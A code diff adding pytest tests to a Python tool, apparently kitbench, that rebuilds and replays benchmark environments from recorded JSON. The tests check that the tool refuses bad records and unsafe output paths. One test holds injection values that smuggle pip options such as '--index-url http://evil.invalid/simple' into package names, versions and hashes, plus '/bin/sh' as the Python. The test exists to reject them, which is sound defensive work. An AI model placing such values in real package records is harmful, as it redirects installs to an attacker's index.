@@ -16,6 +16,7 @@ from typing import Any
 import pytest
 
 from kitbench import _cli, compare, locks, records, replay
+from kitbench.errors import ReplayError
 from kitbench.probe import probe
 
 REPO = Path(__file__).resolve().parent.parent
@@ -77,12 +78,70 @@ def test_a_version_no_index_serves_cannot_be_rebuilt(cpu_record: Path, tmp_path:
     assert list((tmp_path / "cache").iterdir()) == []          # nothing half-built left
 
 
+@needs_uv
+def test_a_python_this_machine_cannot_provide_is_refused(cpu_record: Path, tmp_path: Path,
+                                                         monkeypatch: pytest.MonkeyPatch,
+                                                         capsys: pytest.CaptureFixture[str]) -> None:
+    monkeypatch.setenv(replay.CACHE_VARIABLE, str(tmp_path / "cache"))
+    future = _edited(cpu_record, tmp_path / "future.json", python="3.99.0")
+    assert _cli.main(["replay", str(future)]) == 2
+    assert capsys.readouterr().err.splitlines()[-1].startswith("ERROR: no Python 3.99 here: No interpreter found "
+                                                               "for Python 3.99")     # not uv's closing hint
+    assert list((tmp_path / "cache").iterdir()) == []
+
+
+def test_a_package_from_a_local_path_is_refused(cpu_record: Path, tmp_path: Path,
+                                                capsys: pytest.CaptureFixture[str]) -> None:
+    local = _edited(cpu_record, tmp_path / "local.json",
+                    packages=[{"name": "mine", "version": "0.1", "source": "file:///home/them/mine"}])
+    assert _cli.main(["replay", str(local)]) == 2
+    assert capsys.readouterr().err.startswith("ERROR: the record's mine came from a local path on its machine")
+
+
 def test_a_record_from_a_platform_its_target_does_not_serve_is_refused(tmp_path: Path,
                                                                        capsys: pytest.CaptureFixture[str]) -> None:
     mac = _edited(OLD_RECORDS[0], tmp_path / "mac.json", os="macos", arch="arm64", target="mps")
     assert _cli.main(["replay", str(mac)]) == 2
     assert capsys.readouterr().err.startswith("ERROR: the record ran on macos-arm64 with target mps, which "
                                               "does not run on linux-x86_64")
+
+
+@pytest.mark.parametrize(("environment", "named"), [
+    ({"packages": [{"name": "numpy\n--index-url http://evil.invalid/simple\n#", "version": "2.0"}]}, "package"),
+    ({"packages": [{"name": "numpy", "version": "2.0 --extra-index-url=http://evil.invalid"}]}, "version"),
+    ({"packages": [{"name": "numpy", "version": "2.0", "hashes": ["sha256:00\n-e ."]}]}, "hash"),
+    ({"python": "/bin/sh"}, "python"),
+])
+def test_a_record_naming_options_instead_of_packages_is_refused_before_a_build(
+        environment: dict[str, Any], named: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    """A package name, version, hash or Python from a record becomes a line of a requirements file or an
+    argument; a newline or an option there would be obeyed (another index), so it is refused."""
+    monkeypatch.setenv(replay.CACHE_VARIABLE, str(tmp_path / "cache"))
+    bad = _edited(OLD_RECORDS[0], tmp_path / "bad.json", **{"os": "linux", "arch": "x86_64", **environment})
+    assert _cli.main(["replay", str(bad)]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("ERROR: ") and named in err.splitlines()[0]
+    assert "which no index serves" in err and not (tmp_path / "cache").exists()
+
+
+@pytest.mark.parametrize("kind", ["symlink", "directory", "foreign file"])
+def test_a_bad_out_is_refused_before_the_environment_is_built(kind: str, tmp_path: Path,
+                                                              monkeypatch: pytest.MonkeyPatch,
+                                                              capsys: pytest.CaptureFixture[str]) -> None:
+    monkeypatch.setenv(replay.CACHE_VARIABLE, str(tmp_path / "cache"))
+    record = _edited(OLD_RECORDS[0], tmp_path / "r.json", os="linux", arch="x86_64")
+    out = tmp_path / "out.json"
+    (tmp_path / "notes.txt").write_text("keep")
+    if kind == "symlink":
+        out.symlink_to(tmp_path / "notes.txt")
+    elif kind == "directory":
+        out.mkdir()
+    else:
+        out.write_text("keep")
+    assert _cli.main(["replay", str(record), "--out", str(out)]) == 2
+    assert capsys.readouterr().err.startswith(f"ERROR: will not write {out}")
+    assert not (tmp_path / "cache").exists() and (tmp_path / "notes.txt").read_text() == "keep"
 
 
 def test_a_mac_record_is_planned_for_this_platform_and_says_so(cpu_record: Path, tmp_path: Path) -> None:
@@ -111,6 +170,42 @@ def test_v1_records_are_still_compared_and_verified(old: Path, cpu_record: Path,
     assert differs and not any("package " in line for line in differs)     # /1 lists no packages
     if compare._runs(records.read(old)):
         assert _cli.main(["verify", str(old), str(old)]) == 0
+
+
+def test_the_replayed_run_gets_this_kitbench_and_nothing_else_of_the_callers(
+        cpu_record: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """An installed kitbench's parent folder is site-packages: on PYTHONPATH, the caller's torch and numpy
+    would come before the rebuilt environment's."""
+    seen: dict[str, Any] = {}
+
+    def fake_run(command: list[str], env: dict[str, str], **kwargs: Any) -> None:
+        folder = Path(env["PYTHONPATH"].split(os.pathsep)[0])
+        seen.update(folder=folder, entries=[p.name for p in folder.iterdir()],
+                    package=(folder / "kitbench").resolve())
+
+    monkeypatch.setattr(subprocess, "run", fake_run)
+    with pytest.raises(ReplayError, match="wrote no record"):
+        replay.run(replay.plan(cpu_record, probe()), Path(sys.executable), tmp_path / "new.json", lambda line: None)
+    assert seen["entries"] == ["kitbench"] and seen["package"] == REPO / "kitbench"
+    assert not seen["folder"].exists()          # gone with the run
+
+
+def test_the_build_installs_into_the_venvs_own_interpreter_on_windows(
+        cpu_record: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    chosen = replay.plan(cpu_record, probe())
+    calls: list[list[str]] = []
+
+    def fake_call(command: list[str], what: str) -> None:
+        calls.append(command)
+        if command[1] == "venv":
+            Path(command[-1]).mkdir()
+
+    monkeypatch.setattr(replay, "_call", fake_call)
+    monkeypatch.setattr(replay, "_uv", lambda: "uv")
+    monkeypatch.setattr(sys, "platform", "win32")
+    python = replay.build(chosen, lambda line: None, tmp_path)
+    assert python == tmp_path / chosen.key / "Scripts" / "python.exe"
+    assert calls[1][calls[1].index("--python") + 1].endswith(str(Path("venv", "Scripts", "python.exe")))
 
 
 def test_compare_lists_each_package_and_setting_difference_once(cpu_record: Path) -> None:
